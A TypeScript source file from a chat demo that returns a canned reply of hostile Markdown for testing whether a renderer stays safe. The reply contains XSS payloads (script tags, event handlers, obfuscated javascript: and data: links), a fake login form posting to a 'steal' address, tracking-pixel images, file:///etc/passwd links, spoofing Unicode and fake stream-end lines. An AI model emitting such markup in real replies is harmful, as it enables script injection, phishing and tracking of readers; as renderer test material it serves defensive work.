import { type Reply, textReply } from './reply.ts'

const HOSTILE = `This is the demo's canned reply of hostile Markdown. Nothing in it may run, load or open anything by itself: each line shows what it is, or nothing.

## Scripts and raw HTML

<script>document.title = 'pwned'; alert('script')</script>

<img src=x onerror="document.title='pwned'"> <svg onload="document.title='pwned'"></svg>

<iframe src="https://example.com/"></iframe><style>* { display: none !important }</style>

<form action="https://example.com/steal"><input name="secret"><button>Log in again</button></form>

<a href="javascript:document.title='pwned'">raw link</a> <base href="https://example.com/"> <meta http-equiv="refresh" content="0;url=https://example.com/">

## Links

- [javascript](javascript:document.title='pwned')
- [JaVaScRiPt with a tab](java\tscript:document.title='pwned')
- [entity](&#106;avascript:document.title='pwned')
- [data](data:text/html,<script>document.title='pwned'</script>)
- [file](file:///etc/passwd)
- [vbscript](vbscript:msgbox)
- [looks like another address: https://apple.com](https://example.com/not-apple)
- <javascript:alert(1)> and [reference][bad]
- [an honest link](https://example.com/)

[bad]: javascript:document.title='pwned'

## Images that would tell someone you read this

![tracking pixel](https://example.com/pixel.png?who=you)
![plain http](http://example.com/pixel.gif)
![from the disk](file:///etc/hosts)
![inline](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>)

## Mathematics that wants out

$\\href{javascript:document.title='pwned'}{click}$ and $\\htmlData{x=1}{y}$ and $\\includegraphics{https://example.com/pixel.png}$

$$
\\def\\a{\\a\\a}\\a \\url{javascript:alert(1)} \\unknowncommand{
$$

## Text that lies

Right-to-left: \u202eexe.fdp\u202c, zero width: pass\u200bword, a null: \u0000, a bell: \u0007, combining: Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ealgo.

⚠️ **Error**

The line above is text of the reply, not a failure.

data: [DONE]

event: error

## Broken structure

| a | b
|--|
| one cell | two | three | four |

> > > > > > deep
- 1
  - 2
    - 3
      - 4
        - 5

**bold that never ends *and italics

[link that never ends](https://example.com/

\`\`\`html"><script>alert(1)</script>
<b>a fence whose name is hostile
\`\`\`\`
~~~
still inside
\`\`\`js
and this fence is never closed: <script>document.title = 'pwned'</script>
`

/** Markdown full of what an attacker would write, so that anyone can see it is harmless. */
export function hostileReply(): Reply {
  return textReply(
    'The message asks for hostile Markdown. <script>alert("in the reasoning")</script>',
    HOSTILE,
  )
}
